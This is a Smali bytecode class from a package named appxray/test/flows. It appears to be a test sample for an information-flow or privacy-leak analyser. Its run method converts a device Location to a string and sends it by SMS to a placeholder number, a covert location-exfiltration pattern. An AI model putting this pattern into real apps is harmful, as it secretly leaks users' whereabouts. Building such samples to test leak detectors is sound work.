.class final Lorg/appxray/test/flows/SendTask;
.super Ljava/lang/Object;
.implements Ljava/lang/Runnable;

.field private final loc:Landroid/location/Location;

.method constructor <init>(Landroid/location/Location;)V
    .registers 2
    invoke-direct {p0}, Ljava/lang/Object;-><init>()V
    iput-object p1, p0, Lorg/appxray/test/flows/SendTask;->loc:Landroid/location/Location;
    return-void
.end method

.method public run()V
    .registers 7
    iget-object v0, p0, Lorg/appxray/test/flows/SendTask;->loc:Landroid/location/Location;
    invoke-virtual {v0}, Landroid/location/Location;->toString()Ljava/lang/String;
    move-result-object v3
    invoke-static {}, Landroid/telephony/SmsManager;->getDefault()Landroid/telephony/SmsManager;
    move-result-object v0
    const-string v1, "+15550100"
    const/4 v2, 0x0
    const/4 v4, 0x0
    const/4 v5, 0x0
    invoke-virtual/range {v0 .. v5}, Landroid/telephony/SmsManager;->sendTextMessage(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Landroid/app/PendingIntent;Landroid/app/PendingIntent;)V
    return-void
.end method
